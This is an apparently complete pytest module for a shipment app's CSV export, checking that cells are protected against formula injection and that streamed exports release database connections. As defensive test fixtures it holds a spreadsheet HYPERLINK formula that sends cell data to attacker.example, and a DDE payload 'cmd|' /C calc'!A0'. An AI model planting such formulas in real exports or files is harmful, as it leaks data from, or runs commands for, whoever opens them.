"""The CSV exports: cells safe from formula injection (`app.core.csv_cells`), and the rows of
`app.store.exports` as the JSON lists give them, streamed in chunks on one connection."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import anyio
import pytest
from anyio import wait_all_tasks_blocked
from sqlalchemy.engine import Engine

from app.core.csv_cells import FORMULA_STARTS, cell, neutralised
from app.store import db, exports, reads
from app.store.filters import EventFilter
from tests.helpers import deliver, load_sample, read_sample, sample_names

FORMULA_NAME = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


@pytest.fixture
def engine(tmp_path: Path) -> Engine:
    engine = db.create_db_engine(f"sqlite:///{tmp_path / 'flexhook.db'}")
    db.upgrade(engine)
    return engine


# Names a shipper could give a shipment, each another shipment of its own.
NAMES = (FORMULA_NAME, "+SUM(A1:A9)", "-2+3", "@cmd", "\tTabbed", 'Plain, with a comma "quoted"')


def renamed(prefix: str, name: str, number: int) -> bytes:
    """A packaged sample as another event about another shipment, called `name`."""
    payload: dict[str, Any] = load_sample(prefix)
    payload["id"] = 99_000_000 + number
    payload["data"]["shipment"]["id"] = 990_000 + number
    payload["data"]["shipment"]["name"] = name
    return json.dumps(payload).encode("utf-8")


@pytest.fixture
def stored(engine: Engine) -> Engine:
    """Every packaged sample delivered, then the first one about other shipments, `NAMES`."""
    for name in sample_names():
        deliver(engine, read_sample(name))
    for number, name in enumerate(NAMES):
        deliver(engine, renamed("06", name, number))
    return engine


# -- the cells ------------------------------------------------------------------------------------


@pytest.mark.parametrize("first", FORMULA_STARTS)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_in_front(first: str) -> None:
    assert neutralised(f"{first}1+2") == f"'{first}1+2"
    assert cell(f"{first}cmd|' /C calc'!A0") == f"'{first}cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Shipment 418563",
        "418563",
        "2026-02-02T03:11:48+00:00",
        " =1",
        "'=1",
        "a=b",
        "#3",
        "\n=",
    ],
)
def test_any_other_text_is_left_as_it_is(text: str) -> None:
    assert neutralised(text) == text


def test_values_flexhook_writes_itself_are_never_quoted() -> None:
    when = datetime(2026, 2, 2, 3, 11, 48, tzinfo=UTC)
    assert cell(None) == ""
    assert cell(True) == "true"
    assert cell(False) == "false"
    assert cell(-3) == "-3"  # a number keeps its sign
    assert cell(-2.5) == "-2.5"
    assert cell(when) == "2026-02-02T03:11:48+00:00"
    assert cell("-3") == "'-3"  # text that looks like a number is still text from outside


# -- the exports ----------------------------------------------------------------------------------


async def collect(chunks: AsyncIterator[bytes]) -> list[bytes]:
    return [chunk async for chunk in chunks]


def parsed(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def flat(row: dict[str, Any], header: tuple[str, ...]) -> dict[str, str]:
    """A JSON list's row as the CSV has it: the place flattened, every cell neutralised."""
    location = row.get("location") or {}
    values = {**row, **{f"location_{k}": v for k, v in location.items()}}
    return {name: cell(values.get(name)) for name in header}


async def test_the_shipments_export_is_the_json_list_whole_with_formulas_neutralised(
    stored: Engine,
) -> None:
    body = b"".join(await collect(exports.csv_chunks(stored, exports.shipments())))
    listed = await db.in_session(stored, reads.list_shipments, limit=500)

    rows = parsed(body)
    assert body.count(b"\r\n") == len(rows) + 1  # one header row, CRLF lines
    assert rows == [flat(row, reads.SHIPMENT_COLUMNS) for row in listed]
    names = {row["name"] for row in rows}
    assert names >= {"'" + FORMULA_NAME, "'+SUM(A1:A9)", "'-2+3", "'@cmd", "'\tTabbed", NAMES[-1]}
    assert not names & set(NAMES[:-1])


async def test_the_events_export_has_the_json_lists_filters_and_no_payload(
    stored: Engine,
) -> None:
    listed = await db.in_session(stored, reads.list_events, limit=500)
    some = listed[0]
    for where in (
        EventFilter(),
        EventFilter(status="processed"),
        EventFilter(event_type=some["type"]),
        EventFilter(shipment_id=some["shipment_id"]),
        EventFilter(status="failed"),
    ):
        export = exports.events(where)
        rows = parsed(b"".join(await collect(exports.csv_chunks(stored, export))))
        expected = await db.in_session(stored, reads.list_events, where=where, limit=500)
        assert sorted(r["event_id"] for r in rows) == sorted(e["event_id"] for e in expected)
        for row in rows:
            assert set(row) == {*exports.EVENT_COLUMNS, exports.ALERT_KINDS}
        by_id = {e["event_id"]: e for e in expected}
        for row in rows:
            json_row = by_id[row["event_id"]]
            assert {k: row[k] for k in exports.EVENT_COLUMNS} == flat(
                json_row, exports.EVENT_COLUMNS
            )
            assert row[exports.ALERT_KINDS] == " ".join(a["kind"] for a in json_row["alerts"])
    assert any(
        row[exports.ALERT_KINDS]
        for row in parsed(
            b"".join(await collect(exports.csv_chunks(stored, exports.events(EventFilter()))))
        )
    )


async def test_a_status_and_a_limit_narrow_the_shipments(stored: Engine) -> None:
    status = (await db.in_session(stored, reads.list_shipments))[0]["status"]
    export = exports.shipments(status=status)
    rows = parsed(b"".join(await collect(exports.csv_chunks(stored, export))))
    assert rows and {row["status"] for row in rows} == {status}
    capped = exports.shipments(limit=1)
    assert len(parsed(b"".join(await collect(exports.csv_chunks(stored, capped))))) == 1
    searched = exports.shipments(text="apparel")
    found = parsed(b"".join(await collect(exports.csv_chunks(stored, searched))))
    assert found and all("apparel" in row["name"].lower() for row in found)


async def test_rows_come_in_chunks_on_one_connection_given_back_at_the_end(
    stored: Engine,
) -> None:
    whole = await collect(exports.csv_chunks(stored, exports.events(EventFilter())))
    chunks = await collect(
        exports.csv_chunks(stored, exports.events(EventFilter()), rows_per_chunk=2)
    )
    assert b"".join(chunks) == b"".join(whole)
    events = len(parsed(b"".join(whole)))
    assert len(chunks) == 1 + -(-events // 2)  # the header, then every two rows
    assert all(chunk.count(b"\r\n") == 2 for chunk in chunks[1:-1])
    assert stored.pool.checkedout() == 0  # type: ignore[attr-defined]


async def test_a_reader_that_goes_away_gives_the_connection_back(stored: Engine) -> None:
    chunks = exports.csv_chunks(stored, exports.events(EventFilter()), rows_per_chunk=1)
    await anext(chunks)
    await anext(chunks)
    assert stored.pool.checkedout() == 1  # type: ignore[attr-defined]
    await chunks.aclose()  # type: ignore[attr-defined]
    assert stored.pool.checkedout() == 0  # type: ignore[attr-defined]
    deliver(stored, renamed("06", "Written after", 50))  # no transaction is left open


async def test_exports_past_the_slots_wait_holding_no_connection(stored: Engine) -> None:
    def started() -> AsyncIterator[bytes]:
        return exports.csv_chunks(stored, exports.events(EventFilter()), rows_per_chunk=1)

    reading = [started() for _ in range(exports.EXPORTS_AT_ONCE)]
    for chunks in reading:
        await anext(chunks)  # the header
        await anext(chunks)  # a row: it holds a slot and a connection
    assert stored.pool.checkedout() == exports.EXPORTS_AT_ONCE  # type: ignore[attr-defined]
    waiting = started()
    await anext(waiting)  # its header comes at once
    async with anyio.create_task_group() as group:
        rows: list[bytes] = []

        async def read_one() -> None:
            rows.append(await anext(waiting))

        group.start_soon(read_one)
        await wait_all_tasks_blocked()
        assert rows == []
        assert exports.slots(stored).statistics().tasks_waiting == 1
        assert stored.pool.checkedout() == exports.EXPORTS_AT_ONCE  # type: ignore[attr-defined]
        await reading[0].aclose()  # type: ignore[attr-defined]
    assert rows and rows[0].count(b"\r\n") == 1
    for chunks in [*reading[1:], waiting]:
        await chunks.aclose()  # type: ignore[attr-defined]
    assert stored.pool.checkedout() == 0  # type: ignore[attr-defined]
    assert exports.slots(stored).borrowed_tokens == 0
